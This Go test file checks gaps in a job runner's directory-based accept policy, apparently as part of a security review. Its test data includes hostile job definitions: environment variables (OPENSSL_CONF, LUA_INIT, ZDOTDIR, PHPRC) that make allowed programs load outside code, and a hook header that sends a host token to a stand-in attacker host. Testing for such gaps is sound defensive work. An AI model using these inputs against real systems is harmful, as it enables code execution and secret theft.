package config

import (
	"testing"
)

// Review: definitions that --accept-command-dir is meant to keep out
// (code from outside the directories, or the host's secrets sent away)
// and that AcceptPolicy.Check accepts.
func TestReviewAcceptPolicyGaps(t *testing.T) {
	dirsOnly := AcceptPolicy{Applied: true, CommandDirs: []string{"/opt/jobs"}}
	tests := []struct {
		name, job, why string
	}{
		// Variables through which an allowed program loads code from
		// elsewhere, like the LD_/PYTHON/PERL5OPT ones the policy lists.
		{"OPENSSL_CONF", "script: {command: [/opt/jobs/a.sh], env: {OPENSSL_CONF: /tmp/x.cnf}}",
			"OpenSSL reads it at init in any program linking libssl (curl, python, ...): an engine/provider section loads a shared object from any path"},
		{"LUA_INIT", "script: {command: [/opt/jobs/a.lua], env: {LUA_INIT: 'os.execute(\"id\")'}}",
			"lua runs its value as code at start"},
		{"ZDOTDIR", "script: {command: [/opt/jobs/a.zsh], env: {ZDOTDIR: /tmp}}",
			"zsh sources $ZDOTDIR/.zshenv"},
		{"PHPRC", "script: {command: [/opt/jobs/a.php], env: {PHPRC: /tmp}}",
			"php reads php.ini from there (auto_prepend_file)"},
		// Hook headers expand ${VAR} from shardd's environment on the host:
		// an applied definition reads the host's secrets and, without
		// --accept-hook-host, sends them to any URL.
		{"header ${VAR} to any host", "http: {url: 'https://attacker.invalid/', headers: {X-Leak: '${HOOK_TOKEN}'}}",
			"the value of shardd's HOOK_TOKEN goes to attacker.invalid"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			c, err := ParseWithoutEnv("t.yaml", []byte("jobs:\n  - name: j\n    "+tt.job+"\n"))
			if err != nil {
				t.Fatal(err)
			}
			if err := dirsOnly.Check(c.Jobs[0]); err == nil {
				t.Errorf("an instance with only --accept-command-dir /opt/jobs accepts %s: %s", tt.job, tt.why)
			}
		})
	}
}
